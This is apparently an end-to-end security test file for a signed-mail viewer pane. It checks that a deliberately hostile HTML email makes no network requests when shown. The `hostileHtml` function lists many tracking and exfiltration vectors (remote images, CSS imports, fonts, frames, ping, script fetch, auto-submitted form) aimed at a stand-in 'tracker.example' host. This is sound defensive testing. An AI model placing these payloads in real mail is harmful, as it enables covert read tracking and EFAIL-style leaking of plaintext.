/**
 * A signed HTML mail written to make its reader's browser fetch something: remote images in every spelling, style
 * sheets, fonts, frames, forms, scripts, prefetches. Showing it must cause no request at all, in the pane or in any
 * frame, to anywhere: each fetch would tell the sender when the mail was read (and, with EFAIL, carry plaintext out).
 *
 * Requests are counted three ways: the browser's own request events (every page, frame and worker), the route that
 * aborts anything not addressed to the test server, and a canary HTTP server on 127.0.0.1 that the message points at,
 * which sees any connection the browser opens whatever the instrumentation does.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import type { Frame, Page } from "playwright-core";
import { newRoutedContext, type OfficeSource } from "./lib/browser-context.js";
import { itemFromEml, OUTLOOK_HOST_QUERY } from "./lib/mock-outlook.js";
import { EML_INPUT, gotoPane, screenshot, waitForBadge } from "./lib/pane.js";
import { SKIP, useE2E } from "./lib/suite.js";

const env = useE2E();
const OPENSSL = process.env.INKAN_OPENSSL ?? "openssl";
/** Visible text of the message: proves the body was rendered, so that "no request" is not "nothing shown". */
const MARKER = "Quarterly figures 7F3A attached";
/** How long to let the rendered body try to load things after it appears: images, fonts and frames start at once. */
const SETTLE_MS = 1_500;

interface Canary {
  readonly origin: string;
  readonly hits: string[];
  close(): Promise<void>;
}

function startCanary(): Promise<Canary> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(204).end();
  });
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => {
      const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      resolve({
        origin,
        hits,
        close: () =>
          new Promise((done) => {
            server.closeAllConnections();
            server.close(() => done());
          }),
      });
    }),
  );
}

/**
 * Every way an HTML mail can name a resource. `u(name)` spreads the references over three places: an outside host,
 * the canary, and the pane's own server (a same-origin fetch would leak just as well through logs).
 */
function hostileHtml(u: (name: string) => string): string {
  return `<!DOCTYPE html>
<html>
<head>
<meta http-equiv="refresh" content="0; url=${u("meta-refresh")}">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="${u("base/")}">
<link rel="stylesheet" href="${u("link.css")}">
<link rel="preload" as="image" href="${u("preload.png")}">
<link rel="prefetch" href="${u("prefetch")}">
<link rel="preconnect" href="${u("preconnect")}">
<link rel="icon" href="${u("icon.png")}">
<style>
@import url("${u("import-url.css")}");
@import "${u("import-string.css")}";
@font-face { font-family: "Leak"; src: url(${u("font.woff2")}) format("woff2"); }
body { font-family: "Leak", sans-serif; background-image: url('${u("body-bg.png")}'); }
.cursor { cursor: url(${u("cursor.cur")}), auto; }
.list { list-style-image: url(${u("bullet.png")}); }
.set { background-image: image-set("${u("image-set.png")}" 1x); }
.esc { background: u\\72l(${u("escaped-url.png")}); }
</style>
</head>
<body background="${u("body-background-attr.png")}">
<p class="cursor">${MARKER}</p>
<img src="${u("pixel.gif")}" width="1" height="1" alt="">
<img src="relative-to-base.png" alt="">
<img src="${u("lazy.png")}" loading="lazy" alt="">
<img srcset="${u("srcset-1x.png")} 1x, ${u("srcset-2x.png")} 2x" alt="">
<picture><source srcset="${u("picture.webp")}" type="image/webp"><img src="${u("picture.png")}" alt=""></picture>
<img src="x:" onerror="this.src='${u("onerror")}'" alt="">
<ul class="list"><li>item</li></ul>
<div class="set esc" style="background:url(${u("inline-style.png")})">styled</div>
<table background="${u("table-bg.png")}"><tr><td background="${u("td-bg.png")}">cell</td></tr></table>
<iframe src="${u("frame.html")}"></iframe>
<iframe srcdoc="&lt;img src='${u("srcdoc.png")}'&gt;"></iframe>
<object data="${u("object")}"></object>
<embed src="${u("embed")}">
<video poster="${u("poster.png")}" src="${u("video.mp4")}" autoplay></video>
<audio src="${u("audio.mp3")}" autoplay></audio>
<svg width="10" height="10"><image href="${u("svg-image.png")}" width="10" height="10"/></svg>
<input type="image" src="${u("input-image.png")}" alt="go">
<form id="f" action="${u("form")}" method="post"><input name="q" value="secret"><button>Send</button></form>
<a href="${u("link")}" ping="${u("ping")}">a link</a>
<script>fetch("${u("script-fetch")}"); new Image().src = "${u("script-image")}"; document.getElementById("f").submit();
window.top.__inkanHostileRan = true;</script>
</body>
</html>
`;
}

/** The HTML as a text/html entity, opaque-signed by the test PKI's alice with OpenSSL, under mail headers. */
function signedHostileMessage(html: string): Buffer {
  const fx = env().fx;
  const work = mkdtempSync(join(tmpdir(), "inkan-hostile-"));
  try {
    const body = Buffer.from(html, "utf8").toString("base64").replace(/.{76}/g, "$&\r\n");
    const entity = `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}\r\n`;
    const input = join(work, "entity.txt");
    writeFileSync(input, entity);
    const signed = execFileSync(
      OPENSSL,
      [
        "cms",
        "-sign",
        "-nodetach",
        "-md",
        "sha256",
        "-in",
        input,
        "-signer",
        fx.pki.alice.certPem,
        "-inkey",
        fx.pki.alice.key,
        "-certfile",
        fx.pki.inter.certPem,
        "-crlfeol",
      ],
      { stdio: ["ignore", "pipe", "pipe"] },
    )
      .toString("latin1")
      .replace(/\r?\n/g, "\r\n")
      .replace(/^MIME-Version: 1\.0\r\n/i, "");
    const headers = [
      "From: Alice Example <alice@example.jp>",
      "To: Taro Yamada <taro.yamada@example.co.jp>",
      "Subject: Quarterly figures",
      `Date: ${new Date().toUTCString().replace("GMT", "+0000")}`,
      "Message-ID: <hostile-html@e2e.inkan.test>",
      "MIME-Version: 1.0",
    ];
    return Buffer.from(`${headers.join("\r\n")}\r\n${signed}`, "latin1");
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}

/** Whether the marker text is on screen in the pane or in any of its frames (the body may be in a sandboxed frame). */
async function markerShown(page: Page): Promise<boolean> {
  const inFrame = async (frame: Frame): Promise<boolean> => {
    try {
      return (await frame.getByText(MARKER).count()) > 0;
    } catch {
      return false;
    }
  };
  for (const frame of page.frames()) if (await inFrame(frame)) return true;
  return false;
}

async function waitForMarker(page: Page): Promise<void> {
  const deadline = Date.now() + 10_000;
  while (!(await markerShown(page))) {
    if (Date.now() > deadline) throw new Error(`the message text "${MARKER}" never appeared: the body was not rendered`);
    await page.waitForTimeout(100);
  }
}

let canary: Canary;

describe("a hostile HTML message", { skip: SKIP }, () => {
  before(async () => {
    canary = await startCanary();
  });
  after(async () => {
    await canary?.close();
  });

  const places = ["Outlook", "standalone"] as const;
  for (const place of places) {
    it(`is shown in the ${place} pane without a single request, in the pane or any frame`, async () => {
      const { origin } = env().server;
      const targets = ["https://tracker.example/hostile/", `${canary.origin}/hostile/`, `${origin}/hostile/`];
      let n = 0;
      const html = hostileHtml((name) => `${targets[n++ % targets.length]}${name}`);
      const eml = signedHostileMessage(html);

      const office: OfficeSource =
        place === "Outlook"
          ? { kind: "mock-outlook", config: { displayLanguage: "en-US", item: itemFromEml("AAMkAGhostile", eml) } }
          : { kind: "npm-copy" };
      const { context, traffic } = await newRoutedContext(env().browser, origin, { office });
      const page = await context.newPage();
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await gotoPane(page, env().url(place === "Outlook" ? OUTLOOK_HOST_QUERY : ""));
      const before = traffic.all.length;
      if (place === "standalone") {
        const file = join(mkdtempSync(join(tmpdir(), "inkan-hostile-")), "hostile.eml");
        writeFileSync(file, eml);
        await page.setInputFiles(EML_INPUT, file);
        rmSync(file);
      }
      const badge = await waitForBadge(page);
      assert.equal(badge.status, "untrusted", "the message should verify as signed by the untrusted test PKI");
      await waitForMarker(page);
      await page.waitForTimeout(SETTLE_MS);
      // Scrolled through, so that lazy images and anything below the fold get their chance too.
      await page.mouse.wheel(0, 5_000);
      await page.waitForTimeout(300);
      await screenshot(page, `hostile-html-${place.toLowerCase()}`);

      const afterOpening = traffic.all.slice(before);
      // office.js's own telemetry frame (standalone) has a test of its own; it is no request of the message's.
      const hostile = afterOpening.filter(
        (url) =>
          url.includes("/hostile/") ||
          (!url.startsWith(`${origin}/`) && !traffic.office.includes(url) && !traffic.officeTelemetry.includes(url)),
      );
      assert.deepEqual(hostile, [], "requests made by the message");
      assert.deepEqual(traffic.external, [], "requests for anything but the pane's own files");
      assert.deepEqual(canary.hits, [], "connections that reached the canary server");
      assert.deepEqual(
        env().server.requested.filter((p) => p.startsWith("/hostile/")),
        [],
        "requests that reached the pane's server",
      );
      assert.deepEqual(dialogs, []);
      for (const frame of page.frames()) {
        const ran = await frame.evaluate(() => (globalThis as { __inkanHostileRan?: boolean }).__inkanHostileRan).catch(() => undefined);
        assert.notEqual(ran, true, `the message's script ran in ${frame.url()}`);
      }
      assert.deepEqual(traffic.pageErrors, []);

      // The browser-side counters are not blind: the same kind of reference, made by the page itself, is seen by
      // both (the route aborts it, so the canary, which is there for what bypasses them, stays quiet).
      const control = `${canary.origin}/control.png`;
      await page.evaluate((src) => {
        const img = document.createElement("img");
        img.src = src;
        document.body.append(img);
      }, control);
      await page.waitForTimeout(300);
      // Read afresh: the assertions above narrowed the lists to empty ones.
      const seen = (list: readonly string[]): boolean => list.includes(control);
      assert.ok(seen(traffic.all), "the browser's request events missed the control image");
      assert.ok(seen(traffic.external as readonly string[]), "the route missed the control image");
      await context.close();
      canary.hits.length = 0;
    });
  }
});
